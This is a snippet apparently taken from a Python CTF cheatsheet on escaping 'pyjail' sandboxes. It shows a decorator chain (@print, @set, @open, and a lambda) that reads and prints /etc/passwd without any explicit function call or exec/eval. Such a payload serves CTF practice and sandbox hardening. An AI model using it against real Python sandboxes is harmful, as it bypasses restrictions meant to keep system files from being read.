# Source: github.com/salvatore-abello/python-ctf-cheatsheet pyjails/README.md (No function call and no exec/eval: @print @set @open @input)
# Family: decorator
# What: decorator chain opens and prints a file chosen at runtime
@print
@set
@open
@(lambda _: "/etc/passwd")
class a:
    pass
